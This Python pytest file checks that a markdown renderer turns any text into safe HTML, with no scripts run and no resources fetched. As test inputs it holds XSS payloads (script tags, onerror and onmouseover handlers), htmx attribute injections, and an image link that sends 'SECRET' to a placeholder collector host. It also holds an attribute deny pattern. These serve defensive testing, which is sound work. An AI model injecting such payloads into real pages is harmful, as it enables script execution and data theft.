"""Any text to safe HTML: nothing runs, nothing is fetched, nothing that was written is lost."""

import re
import time

import pytest
from casefiles import FOLDER, case_file
from dom import Element, parse

from app.rendering.markdown import render_markdown

GENERATED = [case for case in case_file("generators.json")["cases"] if case["id"].startswith("C11")]
SAFE_TAGS = {
    *("#document", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "em", "strong"),
    *("s", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "div", "span", "button", "section"),
    *("sup", "details", "summary"),
}


def rendered(text: str) -> Element:
    return parse(render_markdown(text))


def file(name: str) -> str:
    return (FOLDER / name).read_text(encoding="utf-8")


def check_safe(html: Element) -> None:
    for element in html:
        assert element.tag in SAFE_TAGS or re.fullmatch(r"m[a-z]+", element.tag), element.tag
        for name, value in element.attributes.items():
            assert not name.startswith(("on", "hx-", "data-hx", "style", "src", "formaction")), (element.tag, name)
            if name == "href":
                assert re.match(r"(https?:|mailto:|#|//)", value), value


@pytest.mark.parametrize("name", ["markdown-xss.md", "markdown-image-exfil.md", "markdown-literal-angle.md"])
def test_c06_c08_nothing_in_a_text_runs_or_is_fetched(name: str) -> None:
    check_safe(rendered(file(name)))


@pytest.mark.parametrize("line", [line for line in file("markdown-xss.md").splitlines() if line.strip()])
def test_c06_each_payload_alone(line: str) -> None:
    check_safe(rendered(line))
    check_safe(rendered(f"- > {line}"))


def test_c06_code_that_looks_dangerous_stays_visible() -> None:
    text = rendered(file("markdown-xss.md")).text
    for shown in ("alert('p1')", "<img src=x onerror=alert('p10')>", "<script>alert('p11')</script>"):
        assert shown in text


def test_c08_a_picture_is_not_fetched_but_its_words_are_there() -> None:
    html = rendered("![the *moon*](https://collector.example/p.png?d=SECRET)")
    assert not html.all("img")
    assert "moon" in html.text


def test_c17_what_only_looks_like_a_tag_is_all_visible() -> None:
    text = " ".join(rendered(file("markdown-literal-angle.md")).text.split())
    for shown in (
        "5 < 10",
        "List<String>",
        "vector<int>",
        "<T> is a type",
        "a<b>c</b>d",
        "<- and ->",
        "a <= b",
        "R&D",
    ):
        assert shown in text


@pytest.mark.parametrize(
    "text",
    [
        '<div hx-get="/x" hx-trigger="load">x</div>',
        '<hx-partial hx-target="#messages">x</hx-partial>',
        '[a](http://x.example "<hx-partial hx-target=body>")',
        '[a](http://x.example "\\" onmouseover=alert(1) x=\\"")',
        "```<hx-partial>\nx\n```",
        '```js" hx-get="/x\nx\n```',
        "<data-hx-get=/x>",
        "http://x.example/<hx-get>",
    ],
)
def test_htmx_finds_nothing_to_do_in_a_message(text: str) -> None:
    html = render_markdown(text)
    check_safe(parse(html))
    assert "<hx-" not in html


def test_links_leave_without_telling_where_from() -> None:
    (link,) = rendered("see https://example.org/a?b=c&d=e now").all("a")
    assert link["href"] == "https://example.org/a?b=c&d=e"
    assert {"noopener", "noreferrer"} <= set(link["rel"].split())


def test_the_usual_marks_are_understood() -> None:
    html = rendered(
        "# T\n\n1. *a*\n2. **b** `c` ~~d~~\n\n> q\n\n| x | y |\n|:-:|--:|\n| 1 | 2 |\n\n```python\nf()\n```\n"
    )
    for tag in ("h1", "ol", "em", "strong", "code", "s", "blockquote", "table", "pre"):
        assert html.all(tag), tag
    assert html.one("pre").text == "f()\n"


@pytest.mark.parametrize("case", GENERATED, ids=lambda case: str(case["id"]))
def test_c11_deep_nesting_takes_no_time_and_breaks_nothing(case: dict[str, object]) -> None:
    if "unit" in case:
        text = str(case["unit"]) * int(str(case["times"])) + str(case["suffix"])
    else:
        text = "\n".join("  " * depth + "- a" for depth in range(300))
    began = time.monotonic()
    check_safe(rendered(text))
    assert time.monotonic() - began < 3


STRANGE = ["", "\0", "a\0b", "\ufeff", "\r\n\r", "\u2028", "&#0;", "&#xD800;", "\x1b[0m", "[", "```", "\ud800"]


@pytest.mark.parametrize("text", STRANGE, ids=ascii)
def test_any_text_is_taken(text: str) -> None:
    check_safe(rendered(text))
